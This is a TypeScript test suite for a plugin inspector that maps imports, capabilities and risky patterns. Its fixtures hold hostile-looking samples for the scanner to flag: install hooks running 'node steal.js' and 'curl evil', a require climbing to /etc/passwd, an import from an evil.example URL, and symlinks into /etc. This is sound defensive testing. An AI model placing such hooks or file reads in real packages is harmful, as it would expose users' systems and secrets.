import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inspectPlugin } from '../../src/analysis/inspect.ts';
import { makeMemoryTree } from '../../src/file-tree.ts';
import { makeDiskTree } from '../../src/node/disk-tree.ts';
import { compileTypeScript } from '../../src/node/index.ts';

const inspect = (files: Readonly<Record<string, string>>, options: Parameters<typeof inspectPlugin>[1] = {}) =>
  inspectPlugin(makeMemoryTree(files), options);
const pkg = (name: string, more: object = {}): string => JSON.stringify({ name, version: '1.0.0', ...more });

function onDisk(
  files: Readonly<Record<string, string>>,
  links: Readonly<Record<string, string>>,
): ReturnType<typeof makeDiskTree> {
  const root = mkdtempSync(join(tmpdir(), 'cofferdam-inspect-'));
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  }
  for (const [path, target] of Object.entries(links)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    symlinkSync(target, join(root, path));
  }
  return makeDiskTree(pathToFileURL(`${root}/`), { maxFileBytes: 1e6 });
}

describe('inspectPlugin()', () => {
  it('follows what the entry reaches, package by package', () => {
    const report = inspect({
      'package.json': pkg('plugin', { main: './main.mjs', dependencies: { dep: '1' } }),
      'main.mjs':
        "import './lib/a.mjs'; import dep from 'dep'; import 'node:path'; import { kv } from 'cofferdam:kv'; console.log(dep);",
      'lib/a.mjs': "export * from './b.cjs';",
      'lib/b.cjs': "const fs = require('fs'); exports.x = () => process.env.HOME;",
      'lib/unused.mjs': "import 'child_process';",
      'node_modules/dep/package.json': pkg('dep', { main: 'i.js' }),
      'node_modules/dep/i.js': "module.exports = typeof window === 'undefined' ? require('./j') : window;",
      'node_modules/dep/j.json': '{"x":1}',
    });
    expect(report).toMatchObject({ name: 'plugin', version: '1.0.0', entries: ['.'], complete: true, findings: [] });
    expect(report.files.map(({ file }) => file)).toEqual([
      'main.mjs',
      'lib/a.mjs',
      'node_modules/dep/i.js',
      'lib/b.cjs',
    ]);
    expect(report.packages).toEqual([
      expect.objectContaining({
        resource: '$root$',
        files: 3,
        globals: [
          expect.objectContaining({ name: 'console', file: 'main.mjs' }),
          expect.objectContaining({ name: 'process', file: 'lib/b.cjs', line: 1, column: 45, tested: false }),
        ],
        builtins: [
          expect.objectContaining({ name: 'cofferdam:kv' }),
          expect.objectContaining({ name: 'fs', file: 'lib/b.cjs' }),
          expect.objectContaining({ name: 'path' }),
        ],
        packages: ['dep'],
      }),
      expect.objectContaining({ resource: 'dep', name: 'dep', packages: [], builtins: [] }),
    ]);
    expect(report.powers.map(({ risk, kind, name, packages }) => `${risk} ${kind} ${name} ${packages}`)).toEqual([
      'high builtin cofferdam:kv $root$',
      'high builtin fs $root$',
      'high global process $root$',
      'high global window dep',
      'low global console $root$',
      'low builtin path $root$',
    ]);
    expect(report.powers.find(({ name }) => name === 'window')?.tested).toBe(true);
    expect(JSON.parse(JSON.stringify(report))).toMatchObject({ complete: true });
  });

  it("begins at the manifest's entry, or where it is told", () => {
    const files = {
      'cofferdam.json': '{"entry":"./p.js"}',
      'package.json': pkg('p', { main: 'm.js' }),
      'p.js': '',
      'm.js': '',
      'n.js': '',
    };
    expect(inspect(files).files.map(({ file }) => file)).toEqual(['p.js']);
    expect(inspect(files, { entries: ['./n.js', '.'] }).files.map(({ file }) => file)).toEqual(['n.js', 'm.js']);
  });

  it('reads a plugin below the root of its tree', () => {
    const report = inspect(
      {
        'app/package.json': pkg('app', { main: 'm.js', dependencies: { dep: '*' } }),
        'app/m.js': "require('dep'); fetch(1)",
        'node_modules/dep/package.json': pkg('dep'),
        'node_modules/dep/index.js': 'process',
      },
      { directory: '/app' },
    );
    expect(report).toMatchObject({ name: 'app', complete: true });
    expect(report.packages.map(({ resource, globals }) => [resource, ...globals.map(({ name }) => name)])).toEqual([
      ['$root$', 'fetch'],
      ['dep', 'process'],
    ]);
  });

  it('compiles what it is given compilers for', () => {
    const files = { 'package.json': pkg('p', { main: 'm.ts' }), 'm.ts': 'const x: number = 1;\nfetch(x as any);' };
    expect(inspect(files).findings).toMatchObject([{ kind: 'unreadable', file: 'm.ts' }]);
    const report = inspect(files, { compilers: { '.ts': compileTypeScript } });
    expect(report.powers).toMatchObject([{ name: 'fetch', at: { file: 'm.ts', line: 2, column: 1 } }]);
    const broken = { ...files, 'm.ts': 'const x: = 1' };
    expect(inspect(broken, { compilers: { '.ts': compileTypeScript } }).findings).toMatchObject([
      { kind: 'unreadable' },
    ]);
  });

  it('reports scripts of installation, with their lines', () => {
    const report = inspect({
      'package.json':
        '{ "name": "p", "main": "m.js",\n "dependencies": { "d": "*" },\n "scripts": { "test": "x",\n  "postinstall": "node steal.js" } }',
      'm.js': "require('d')",
      'node_modules/d/package.json': '{ "name": "d", "scripts": { "prepare": "x", "preinstall": "curl evil" } }',
      'node_modules/d/index.js': '',
    });
    expect(report.findings.map(({ file, line, column, message }) => [file, line, column, message])).toEqual([
      ['node_modules/d/package.json', 1, 45, 'Runs a script when it is installed: preinstall: curl evil'],
      ['package.json', 4, 3, 'Runs a script when it is installed: postinstall: node steal.js'],
    ]);
  });

  it.each<[string, Readonly<Record<string, string>>, readonly string[]]>([
    ['nothing at all', {}, ['unresolved']],
    ['a package.json that is none', { 'package.json': '{,', 'index.js': '' }, ['syntax-error', 'unreadable']],
    ['no JavaScript', { 'index.js': '<?php', 'package.json': pkg('p') }, ['syntax-error']],
    ['bad JSON', { 'index.js': "require('./x.json')", 'x.json': '{', 'package.json': pkg('p') }, ['syntax-error']],
    ['a missing file', { 'index.js': "require('./x')", 'package.json': pkg('p') }, ['unresolved']],
    [
      'a missing file that is expected to be',
      { 'index.js': "try { require('./x') } catch {}", 'package.json': pkg('p') },
      [],
    ],
    [
      'a climb',
      { 'index.js': "try { require('../../../etc/passwd') } catch {}", 'package.json': pkg('p') },
      ['outside'],
    ],
    [
      'a URL',
      { 'index.mjs': "import 'https://evil.example/x.js'", 'package.json': pkg('p', { main: 'index.mjs' }) },
      ['unresolved'],
    ],
    ['a deep nest', { 'index.js': '('.repeat(1e5), 'package.json': pkg('p') }, ['too-deep']],
    ['a circle of files', { 'index.js': "require('./a')", 'a.js': "require('./index')", 'package.json': pkg('p') }, []],
    [
      'circles of packages',
      {
        'index.js': "require('a')",
        'package.json': pkg('p', { dependencies: { a: '*' } }),
        'node_modules/a/package.json': pkg('a', { dependencies: { a: '*', p: '*' } }),
        'node_modules/a/index.js': "require('a')",
      },
      [],
    ],
    [
      'exports that meet themselves',
      {
        'index.js': "require('a/x.js')",
        'package.json': pkg('p', { dependencies: { a: '*' } }),
        'node_modules/a/package.json': pkg('a', { exports: { './*': './y/*' } }),
      },
      ['unresolved'],
    ],
  ])('answers for %s', (_, files, expected) => {
    const report = inspect(files);
    expect([...new Set(report.findings.map(({ kind }) => kind))].sort()).toEqual(expected);
    expect(report.complete).toBe(expected.length === 0);
  });

  it('answers for links: out of the root, in circles, to nothing', () => {
    const main = "try { require('./out.js') } catch {} try { require('./loop.js') } catch {} require('./in.js');";
    const tree = onDisk(
      {
        'package.json': pkg('p', { dependencies: { evil: '*' } }),
        'index.js': `${main} require('evil');`,
        'real.js': 'eval(x)',
      },
      { 'out.js': '/etc/hostname', 'loop.js': 'loop.js', 'in.js': 'real.js', 'node_modules/evil': '/etc' },
    );
    const report = inspectPlugin(tree);
    expect(report.findings.map(({ kind }) => kind).sort()).toContain('outside');
    expect(report.findings.map(({ kind, file }) => `${kind} ${file}`)).toContain('dynamic-eval real.js');
    expect(report.files.map(({ file }) => file)).toEqual(['index.js', 'real.js']);
    expect(report.complete).toBe(false);
  });

  it('stops at its limits, and says so', () => {
    const files: Record<string, string> = { 'package.json': pkg('p') };
    for (let at = 0; at < 50; at++) files[`${at === 0 ? 'index' : at}.js`] = `require('./${at + 1}')`;
    const report = inspect(files, { maxFiles: 10 });
    expect(report.files).toHaveLength(10);
    expect(report.complete).toBe(false);
    expect(report.findings.map(({ kind }) => kind)).toContain('too-large');
    expect(inspect(files, { maxText: 50 }).files.length).toBeLessThan(10);
  });

  it('throws nothing for whatever a plugin is', () => {
    const text = fc.oneof(
      fc.string(),
      fc.json(),
      fc
        .array(
          fc.constantFrom(
            'import(',
            'require(',
            "'./a.js'",
            ')',
            '{',
            '}',
            '`',
            '${',
            '/',
            '*',
            '=>',
            'x',
            ';',
            '\\',
            'class A {',
            '__proto__',
            '"cofferdam":',
          ),
        )
        .map((some) => some.join(' ')),
    );
    fc.assert(
      fc.property(text, text, text, (one, two, three) => {
        const report = inspect({ 'package.json': one, 'index.js': two, 'a.js': three, 'cofferdam.json': one });
        expect(report.packages.length).toBeLessThan(3);
      }),
    );
  });

  it('refuses unknown options', () => {
    expect(() => inspect({}, { entry: '.' } as never)).toThrow(expect.objectContaining({ code: 'OPTION_UNKNOWN' }));
  });

  it.each([
    ['an entry', {}, { entries: ['./notes.txt'] }],
    ['an import', { 'index.mjs': "import './notes.txt'" }, {}],
    ['an import()', { 'index.mjs': "import('./notes.txt')" }, {}],
    ['an export', { 'index.mjs': "export * from './notes.txt'" }, {}],
    ['a require', { 'index.cjs': "require('./notes.txt')" }, {}],
  ] as const)('does not say that all was seen when code is asked for where none is read: %s', (_, files, options) => {
    const { findings, complete } = inspect({ ...files, 'notes.txt': 'eval(1)' }, options);
    expect(findings).toMatchObject([{ kind: 'unreadable', message: expect.stringContaining('.txt files') as unknown }]);
    expect(complete).toBe(false);
  });

  it.each([
    "import t from './notes.txt' with { type: 'text' }",
    "import t from './notes.txt' with { 'type': 'bytes' }",
    "export { default } from './notes.txt' with { type: 'text' }",
    "import('./notes.txt', { with: { type: 'text' } })",
    "import('./notes.txt', { 'with': { ['type']: 'text' } })",
    "try { require('./notes.txt') } catch {}",
  ])('finds nothing in what is asked for as a text, or may be missing: %s', (code) => {
    const { findings, complete } = inspect({ 'index.js': code, 'notes.txt': 'eval(1)' });
    expect({ findings, complete }).toEqual({ findings: [], complete: true });
  });

  it('looks into what the compilers of a host make of files of any extension', () => {
    const compilers = { '.page': ({ text }: { readonly text: string }) => `export default ${text}` };
    const files = { 'index.mjs': "import './a.page'", 'a.page': 'fetch(1)' };
    expect(inspect(files, { compilers }).powers).toMatchObject([{ name: 'fetch', at: { file: 'a.page' } }]);
    expect(inspect(files)).toMatchObject({ complete: false, findings: [{ kind: 'unreadable' }] });
  });

  it("takes what a host's compiler throws for the plugin's doing", () => {
    const compilers = {
      '.page': (): string => {
        throw new SyntaxError('no page');
      },
    };
    const { findings, complete } = inspect({ 'index.mjs': "import './a.page'", 'a.page': '' }, { compilers });
    expect(findings).toMatchObject([{ kind: 'unreadable', file: 'a.page' }]);
    expect(complete).toBe(false);
  });
});
